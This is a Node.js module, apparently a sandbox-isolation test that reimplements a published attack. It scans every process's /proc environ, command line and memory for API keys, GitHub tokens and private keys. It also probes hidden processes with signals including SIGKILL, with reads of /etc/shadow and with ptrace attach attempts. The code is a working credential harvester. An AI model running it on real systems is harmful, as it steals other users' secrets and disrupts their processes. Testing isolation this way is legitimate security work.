// The published attack: everything of every process that can be opened.
import { closeSync, existsSync, openSync, readdirSync, readFileSync, readSync } from "node:fs";
import { ownerOf, readAll, run, told } from "./common.mjs";

/** What keys and tokens look like. */
const LOOKS =
  /(?<![A-Za-z0-9])(?:mf[ck]_[A-Za-z0-9_-]{20,}|sk-[A-Za-z0-9_-]{20,}|gh[oprsu]_[A-Za-z0-9_.-]{20,}|BEGIN [A-Z ]*PRIVATE KEY)/g;
/** The last pid given out stands in /proc/loadavg (proc(5)). */
const PIDS_MAX = Number(readFileSync("/proc/loadavg", "utf8").split(" ")[4]);
const READ_BYTES_MAX = 64 * 1024 * 1024;
/** Root has the memory of a dozen processes to read. */
const SEARCH_MS = 180_000;

export function search() {
  const found = new Set();
  const opened = [];
  for (let pid = 1; pid <= PIDS_MAX; pid++) {
    // Our own threads have pids as well; what we look for would be found in what we look with.
    if (existsSync(`/proc/self/task/${pid}`) || isThread(pid)) {
      continue;
    }
    for (const file of ["environ", "cmdline", "mem"]) {
      const text = file === "mem" ? memoryOf(pid) : readAll(`/proc/${pid}/${file}`);
      if (text !== null) {
        opened.push({ pid, file, mine: ownerOf(pid) === process.getuid() });
        for (const [value] of text.matchAll(LOOKS)) {
          found.add(value);
        }
      }
    }
  }
  return {
    found: [...found],
    strangers: opened.filter(({ mine }) => !mine),
    files: [...new Set(opened.map((one) => one.file))],
  };
}

/** A thread of a process that has been looked at already, under another number. */
function isThread(pid) {
  const leader = /^Tgid:\t(\d+)$/m.exec(readAll(`/proc/${pid}/status`) ?? "")?.[1];
  return leader !== undefined && Number(leader) !== pid;
}

/** All readable ranges of a process, or null if its memory cannot be opened. */
function memoryOf(pid) {
  const maps = readAll(`/proc/${pid}/maps`);
  let file;
  try {
    file = openSync(`/proc/${pid}/mem`, "r");
  } catch {
    return null;
  }
  const pieces = [];
  let left = READ_BYTES_MAX;
  for (const line of (maps ?? "").split("\n")) {
    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line) ?? [];
    const size = from === undefined ? 0 : Number(BigInt(`0x${to}`) - BigInt(`0x${from}`));
    if (size > 0 && size <= left) {
      const bytes = Buffer.alloc(size);
      try {
        const taken = readSync(file, bytes, 0, size, BigInt(`0x${from}`));
        pieces.push(bytes.toString("latin1", 0, taken));
        left -= taken;
      } catch {
        // The kernel's own page, or one that is gone.
      }
    }
  }
  closeSync(file);
  return pieces.join("\0");
}

/** The same search finds a value in the environment of a process that we are allowed to look at. */
export function searchWithControl(shell) {
  const script = 'PLANTED="$1" sleep 120 & sleep 1; "$2" "$3" search; kill $!';
  const planted = `mfk_planted${"x".repeat(20)}${shell.length}`;
  const args = [...shell.slice(1), "-c", script, "sh", planted, process.execPath, process.argv[1]];
  return { planted, ...told(run(shell[0], args, { timeout: SEARCH_MS })) };
}

/** Processes that are there though they cannot be seen: a signal to them is refused, not lost. */
export function hiddenProcesses() {
  const visible = new Set(
    readdirSync("/proc")
      .filter((name) => /^\d+$/.test(name))
      .map(Number),
  );
  const strangers = [...visible].filter((pid) => ownerOf(pid) !== process.getuid());
  const hidden = [];
  const signalled = [];
  for (let pid = 1; pid <= PIDS_MAX; pid++) {
    try {
      process.kill(pid, 0);
      if (!visible.has(pid) && ownerOf(pid) !== process.getuid()) {
        signalled.push(pid);
      }
    } catch (error) {
      if (error.code === "EPERM") {
        hidden.push(pid);
      }
    }
  }
  const opened = hidden.flatMap((pid) =>
    ["environ", "cmdline", "mem", "maps", "status", "stat", "root/etc/shadow", "cwd", "fd/0", "ns/net", "task"].filter(
      (file) => existsSync(`/proc/${pid}/${file}`) || readAll(`/proc/${pid}/${file}`) !== null,
    ),
  );
  for (const pid of hidden) {
    for (const signal of ["SIGUSR1", "SIGSTOP", "SIGKILL"]) {
      try {
        process.kill(pid, signal);
        signalled.push(`${pid} ${signal}`);
      } catch {
        // Refused.
      }
    }
  }
  // 16 is PTRACE_ATTACH, 101 ptrace on this processor.
  const traced = hidden.filter(
    (pid) => run("perl", ["-e", `exit(syscall(101, 16, ${pid}, 0, 0) == -1 ? 1 : 0)`]).status === 0,
  );
  return { hidden: hidden.length, strangers, opened, signalled, traced };
}
